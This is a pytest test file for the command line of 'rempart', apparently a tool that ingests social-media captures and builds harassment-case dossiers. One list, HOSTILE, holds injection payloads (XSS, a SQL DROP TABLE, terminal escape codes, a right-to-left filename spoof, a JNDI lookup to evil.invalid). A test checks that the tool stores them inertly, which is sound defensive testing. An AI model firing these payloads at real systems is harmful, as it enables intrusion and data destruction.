"""The command line: every command documented, the main flows, hostile text kept inert."""

from __future__ import annotations

from pathlib import Path
from typing import Callable

import click
import orjson
import pytest
from click.testing import CliRunner

from rempart.cli import main

from conftest import page, synthetic_capture, tweet


def test_every_command_has_help() -> None:
    runner = CliRunner()
    for name, command in main.commands.items():
        assert command.help, f"{name} has no help"
        result = runner.invoke(main, [name, "--help"])
        assert result.exit_code == 0 and "Usage" in result.output


def test_init_ingest_stats_messages(
    tmp_path: Path, write_jsonl: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    runner = CliRunner()
    case = tmp_path / "c"
    out = runner.invoke(main, ["init", str(case), "--target", "cible", "--target", "@autre"])
    assert out.exit_code == 0, out.output
    assert "@cible, @autre" in out.output
    data = synthetic_capture(write_jsonl)
    monkeypatch.setenv("REMPART_CASE", str(case))
    out = runner.invoke(main, ["ingest", str(data)])
    assert out.exit_code == 0, out.output
    assert "6 new records" in out.output and "sealed" in out.output
    out = runner.invoke(main, ["stats", "--json"])
    assert orjson.loads(out.output)["totals"]["messages"] == 30
    out = runner.invoke(main, ["messages", "--json"])
    items = orjson.loads(out.output)
    assert len(items) == 30 and all(isinstance(m["id"], str) for m in items)
    assert items[0]["text"] == "@cible message 0-0 & co"
    assert items[0]["created_at"] == "2026-03-01T12:00:00Z"


def test_case_option_beats_environment(
    tmp_path: Path, write_jsonl: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    runner = CliRunner()
    runner.invoke(main, ["init", str(tmp_path / "a"), "--target", "x"])
    monkeypatch.setenv("REMPART_CASE", str(tmp_path / "nowhere"))
    out = runner.invoke(main, ["stats", "--case", str(tmp_path / "a"), "--json"])
    assert out.exit_code == 0
    out = runner.invoke(main, ["stats"])
    assert out.exit_code == 1
    assert "no case here" in out.output and "Traceback" not in out.output


def test_rejects_command_names_file_and_line(
    tmp_path: Path, write_jsonl: Callable[..., Path]
) -> None:
    runner = CliRunner()
    case = tmp_path / "c"
    runner.invoke(main, ["init", str(case), "--target", "x"])
    data = write_jsonl("d.jsonl", [page([tweet("1", "a")]), b"{not json"])
    out = runner.invoke(main, ["ingest", "--case", str(case), str(data)])
    assert "1 record(s) could not be read" in out.output
    out = runner.invoke(main, ["rejects", "--case", str(case)])
    assert f"{data}:2: malformed JSON" in out.output


def test_unknown_format_lists_valid_ones(tmp_path: Path, write_jsonl: Callable[..., Path]) -> None:
    runner = CliRunner()
    runner.invoke(main, ["init", str(tmp_path / "c"), "--target", "x"])
    data = write_jsonl("d.jsonl", [page([tweet("1", "a")])])
    out = runner.invoke(
        main, ["ingest", "--case", str(tmp_path / "c"), "--format", "nope", str(data)]
    )
    assert out.exit_code == 1 and "twarc2" in out.output and "unknown format" in out.output


HOSTILE = [
    "<script>alert(1)</script>",
    "'; DROP TABLE messages; --",
    "\x1b]0;pwned\x07\x1b[2J effacé",
    "\u202egnp.exe",
    "{{7*7}} ${jndi:ldap://evil.invalid/a}",
]


def test_hostile_texts_are_kept_verbatim_and_inert(
    tmp_path: Path, write_jsonl: Callable[..., Path]
) -> None:
    runner = CliRunner()
    case = tmp_path / "c"
    runner.invoke(main, ["init", str(case), "--target", "x"])
    tweets = [tweet(str(i), text) for i, text in enumerate(HOSTILE, start=1)]
    runner.invoke(
        main, ["ingest", "--case", str(case), str(write_jsonl("h.jsonl", [page(tweets)]))]
    )
    out = runner.invoke(main, ["messages", "--case", str(case), "--json"])
    texts = sorted(m["text"] for m in orjson.loads(out.output))
    assert texts == sorted(HOSTILE)
    plain = runner.invoke(main, ["messages", "--case", str(case)])
    assert "\x1b" not in plain.output and "\u202e" not in plain.output
    assert "<script>alert(1)</script>" in plain.output  # shown as text, never interpreted
    out = runner.invoke(main, ["verify", "--case", str(case)])
    assert out.exit_code == 0


def test_formats_lists_every_builtin() -> None:
    out = CliRunner().invoke(main, ["formats"])
    for name in (
        "twarc2",
        "twitter-v1",
        "twitter-archive",
        "mastodon",
        "mastodon-sse",
        "bluesky",
        "twilio",
        "vonage",
        "csv",
    ):
        assert name in out.output


def test_demo_runs_end_to_end(tmp_path: Path) -> None:
    out = CliRunner().invoke(main, ["demo", str(tmp_path / "demo")])
    assert out.exit_code == 0, out.output
    assert "Verified:" in out.output and "nothing altered" in out.output
    assert "harassment:" in out.output and "campaign accounts" in out.output
    assert "Against the simulator's ground truth:" in out.output
    dossier = tmp_path / "demo" / "exports" / "dossier.pdf"
    assert "Court file:" in out.output and dossier.read_bytes().startswith(b"%PDF-")
    checked = CliRunner().invoke(main, ["verify-report", str(dossier)])
    assert checked.exit_code == 0, checked.output
    again = CliRunner().invoke(main, ["demo", str(tmp_path / "demo")])
    assert "0 new records" in again.output and again.exit_code == 0, again.output


def test_click_group_is_a_group() -> None:
    assert isinstance(main, click.Group)


def test_the_command_starts_without_the_heavy_modules_it_may_not_need() -> None:
    """Every command pays for what ``rempart.cli`` imports: scipy's statistics and sparse
    matrices (0.7 s) load only when a command uses them, and no password is hashed at start."""
    import subprocess
    import sys

    code = (
        "import sys, rempart.cli, rempart.case.users as u;"
        "print(sorted(m for m in ('scipy.stats', 'scipy.sparse') if m in sys.modules));"
        "print(u._dummy.cache_info().currsize)"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    ).stdout.split()
    assert out == ["[]", "0"]
